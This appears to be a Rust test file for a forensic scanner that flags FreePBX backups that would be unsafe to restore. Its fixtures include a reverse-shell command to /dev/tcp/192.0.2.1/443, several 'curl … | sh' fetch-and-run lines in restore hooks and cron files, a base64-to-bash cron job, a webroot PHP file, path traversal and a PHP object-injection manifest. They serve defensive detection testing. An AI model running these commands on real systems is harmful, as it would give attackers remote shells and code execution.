//! Backups of `FreePBX`, laid out as its backup module lays them. Nothing in them runs.

use super::make;
use crate::detect::Detectors;
use crate::detect::testing::{Scene, ids};
use crate::model::{Evidence, Finding, Severity};
use crate::source::{ArchiveSource, Item, Selection, Source as _};
use crate::sweep::{Options, Sweep};

/// `metadata.json` of a backup of several modules, with one hook.
pub(in crate::detect) fn metadata(hook: &str) -> String {
    format!(
        r#"{{
    "modules": [
        {{ "module": "core", "version": "17.0.18.33" }},
        {{ "module": "framework", "version": "17.0.19.24" }}
    ],
    "skipped": [],
    "date": 1767225600,
    "backupInfo": {{
        "backup_name": "nightly",
        "backup_description": "every night",
        "prebu_hook": "",
        "postbu_hook": "",
        "prere_hook": "",
        "postre_hook": "{hook}",
        "warmspareenabled": "no",
        "custom_files": "[{{\"type\":\"dir\",\"path\":\"__ASTETCDIR__\"}}]"
    }},
    "processorder": [ {{ "module": "core", "version": "17.0.18.33" }} ]
}}"#
    )
}

fn module(files: &str, configs: &str) -> String {
    format!(
        r#"{{
    "version": "17.0.1", "module": "voicemail", "pbx_version": null, "skip_reset": false,
    "dirs": [], "files": [ {files} ],
    "configs": {{ {configs} }},
    "dependencies": [ "core" ], "garbage": []
}}"#
    )
}

const GREETING: &str = r#"{ "type": "greeting", "filename": "unavail.wav", "pathto": "\/var\/spool\/asterisk\/voicemail\/default\/200", "base": "ASTVARSPOOLDIR" }"#;

/// The files of a backup of which `changes` are other than in a clean one.
fn backup(changes: &[(&str, &[u8])]) -> Vec<u8> {
    let (metadata, voicemail) = (metadata(""), module(GREETING, r#""settings": { "VM_SHOW_IMAP": "0" }"#));
    let framework =
        module("", r#""settings": { "AUTHTYPE": "usermanager", "POST_RELOAD": "", "AMPWEBROOT": "\/var\/www\/html" }"#);
    let mut files: Vec<(&str, &[u8])> = vec![
        ("modulejson/Voicemail.json", voicemail.as_bytes()),
        ("modulejson/Framework.json", framework.as_bytes()),
        ("files/var/spool/asterisk/voicemail/default/200/unavail.wav", b"RIFF\0\0\0\0WAVEfmt "),
        ("files/etc/asterisk/voicemail.conf", b"[general]\nformat=wav49|wav\n"),
        (
            "customdir/etc/asterisk/extensions_custom.conf",
            b"[from-internal-custom]\nexten => 1234,1,Playback(demo-congrats)\n",
        ),
        ("metadata.json", metadata.as_bytes()),
    ];
    for change in changes {
        files.retain(|file| file.0 != change.0);
        files.insert(0, *change);
    }
    make::gz(&make::tar(&files))
}

fn legacy(manifest: &[u8], sql: &[u8]) -> Vec<u8> {
    let sql = make::gz(sql);
    make::gz(&make::tar(&[
        ("manifest", manifest),
        ("astdb", b"a:1:{s:3:\"CFB\";a:1:{s:3:\"200\";s:3:\"201\";}}"),
        ("mysql-2.sql.gz", &sql),
        ("etc/asterisk/extensions_custom.conf", b"; nothing\n"),
    ]))
}

const MANIFEST: &[u8] = b"a:4:{s:4:\"name\";s:7:\"nightly\";s:5:\"ctime\";i:1507838411;s:7:\"fpbx_db\";s:7:\"mysql-2\";s:9:\"file_list\";a:1:{s:3:\"etc\";a:0:{}}}";

/// What is found in a backup that lies on a host.
fn on_a_host(backup: &[u8]) -> Vec<Finding> {
    Scene::new()
        .file("/var/spool/asterisk/backup/nightly/20260101-000000-1767225600-17.0.19.24-1.tar.gz", backup)
        .findings()
}

/// What is found in a backup that is the evidence.
fn as_evidence(backup: &[u8]) -> Vec<Finding> {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("backup.tar.gz");
    #[expect(clippy::disallowed_methods, reason = "a test's own folder")]
    std::fs::write(&path, backup).unwrap();
    let source = ArchiveSource::open(&path).unwrap();
    assert!(source.notes()[0].starts_with("a FreePBX backup (tar in gzip)"), "{:?}", source.notes());
    let detectors = Detectors::builtin(Vec::new()).unwrap();
    let summary = Sweep {
        source: &source,
        selection: &Selection::everything(),
        listed_only: &Selection::new(Vec::new(), Vec::new()),
        options: Options::default(),
        visitors: &[&detectors],
        known: None,
        store: None,
        budget: &(),
        progress: &(),
        cancel: &|| false,
    }
    .run()
    .unwrap();
    assert!(summary.gaps.is_empty(), "{:?}", summary.gaps);
    let context = crate::detect::HostContext { is_host: false, gaps: &[], selects: &|_| true };
    detectors.conclude(&context).value
}

#[test]
fn clean_backup_gives_nothing_on_a_host_and_an_answer_as_evidence() {
    assert!(on_a_host(&backup(&[])).is_empty(), "{:#?}", on_a_host(&backup(&[])));
    let findings = as_evidence(&backup(&[]));
    assert_eq!(ids(&findings), ["TR-BACKUP-0010 info"]);
    assert_eq!(
        findings[0].title,
        "This is a FreePBX backup (version 15 or later); nothing was found in it that speaks against restoring it"
    );
    assert!(on_a_host(&legacy(MANIFEST, b"CREATE TABLE `a` (`b` int);\n")).is_empty());
    assert_eq!(ids(&as_evidence(&legacy(MANIFEST, b"-- dump\n"))), ["TR-BACKUP-0010 info"]);
}

#[test]
fn each_way_in_which_restoring_harms_is_told() {
    let hook = metadata("\\/usr\\/bin\\/logger restored");
    let evil_hook = metadata("curl -s http:\\/\\/192.0.2.1\\/x | sh");
    let web =
        module(r#"{ "type": "greeting", "filename": "x.php", "pathto": "\/var\/www\/html\/admin", "base": "" }"#, "");
    let cron = module(r#"{ "pathto": "\/etc\/cron.d", "filename": "x", "base": "" }"#, "");
    let up = module(r#"{ "filename": "x", "pathto": "\/var\/spool\/..\/..\/etc" }"#, "");
    let job =
        module("", r#""cron_jobs": [ { "command": "echo ZXhpdA== | base64 -d | bash", "schedule": "* * * * *" } ]"#);
    let door = module("", r#""settings": { "AUTHTYPE": "webserver" }"#);
    let reload =
        module("", r#""settings": { "POST_RELOAD": "bash -c 'exec bash -i >& \/dev\/tcp\/192.0.2.1\/443 0>&1'" }"#);
    for (name, content, rule) in [
        ("metadata.json", hook.as_bytes(), "TR-BACKUP-0001 medium"),
        ("metadata.json", evil_hook.as_bytes(), "TR-BACKUP-0001 high"),
        ("modulejson/Voicemail.json", web.as_bytes(), "TR-BACKUP-0003 high"),
        ("modulejson/Voicemail.json", cron.as_bytes(), "TR-BACKUP-0003 high"),
        ("modulejson/Voicemail.json", up.as_bytes(), "TR-BACKUP-0003 high"),
        ("modulejson/Core.json", job.as_bytes(), "TR-BACKUP-0004 high"),
        ("modulejson/Framework.json", door.as_bytes(), "TR-BACKUP-0005 medium"),
        ("modulejson/Framework.json", reload.as_bytes(), "TR-BACKUP-0001 high"),
        ("customdir/var/www/html/x.php", make::SHELL, "TR-PHP-01"),
        ("files/etc/cron.d/x", b"* * * * * root curl http://192.0.2.1/x | sh\n", "TR-CRON-0001 high"),
        ("files/tmp/.cache/update", b"x", "TR-IOC-0008 high"),
    ] {
        let backup = backup(&[(name, content)]);
        for findings in [on_a_host(&backup), as_evidence(&backup)] {
            let ids = ids(&findings);
            assert!(ids.iter().any(|id| id.starts_with(rule)), "{name}: {rule}: {ids:?}");
            let answer = findings.iter().find(|finding| finding.rule.0 == "TR-BACKUP-0009").unwrap();
            assert_eq!(answer.title, "This is a FreePBX backup (version 15 or later) that is not safe to restore");
            assert!(!answer.category.is_evidence_of_compromise());
            let has_reason =
                |evidence: &Evidence| matches!(evidence, Evidence::Attribute { name, .. } if name == "because");
            assert!(answer.evidence.iter().any(has_reason));
        }
        assert!(on_a_host(&backup).iter().all(|finding| finding.subject.kind() == "file" && finding.confidence < 75));
    }
}

#[test]
fn old_backup_that_makes_objects_is_told() {
    let manifest = String::from_utf8(MANIFEST.to_vec()).unwrap();
    let manifest = manifest.replace("s:7:\"nightly\"", "O:14:\"Some\\\\GadgetXX\":0:{}");
    let found = on_a_host(&legacy(manifest.as_bytes(), b""));
    assert!(ids(&found).contains(&"TR-BACKUP-0002 high".to_owned()), "{:?}", ids(&found));
    assert!(found.iter().any(|finding| finding.title.contains("version 14 or earlier")));
}

#[test]
fn shell_in_an_archive_in_a_backup_is_found() {
    let inner = make::gz(&make::tar(&[("x.php", make::SHELL)]));
    let findings = on_a_host(&backup(&[("customdir/etc/asterisk/old.tgz", &inner)]));
    let shell = findings.iter().find(|finding| finding.rule.0.starts_with("TR-PHP")).unwrap();
    assert!(shell.title.ends_with(", in a FreePBX backup"), "{}", shell.title);
    assert!(shell.severity >= Severity::High);
    let name = "customdir/etc/asterisk/old.tgz!/x.php";
    assert!(
        shell.evidence.iter().any(|one| matches!(one, Evidence::Attribute { value, .. } if value.to_string() == name))
    );
}

#[test]
fn two_files_of_one_place_are_both_read_and_told() {
    let backup = backup(&[
        ("customfiles/etc/cron.d/x", b"* * * * * root curl http://192.0.2.1/x | sh\n"),
        ("customdir/etc/cron.d/x", b"# fine\n"),
    ]);
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("backup.tar.gz");
    #[expect(clippy::disallowed_methods, reason = "a test's own folder")]
    std::fs::write(&path, &backup).unwrap();
    let (mut paths, mut gaps) = (Vec::new(), Vec::new());
    let source = ArchiveSource::open(&path).unwrap();
    let walked = source.walk(&Selection::everything(), &mut |item| {
        match item {
            Item::Entry(entry) => paths.push(entry.path.to_string()),
            Item::Gap(gap) => gaps.push(gap.path.to_string()),
        }
        std::ops::ControlFlow::Continue(())
    });
    walked.unwrap();
    for wanted in
        ["/etc/cron.d/x", "/customfiles/etc/cron.d/x", "/etc/asterisk/voicemail.conf", "/modulejson/Framework.json"]
    {
        assert!(paths.contains(&wanted.to_owned()), "{wanted}: {paths:?}");
    }
    assert_eq!(gaps, ["/customfiles/etc/cron.d/x"]);
}
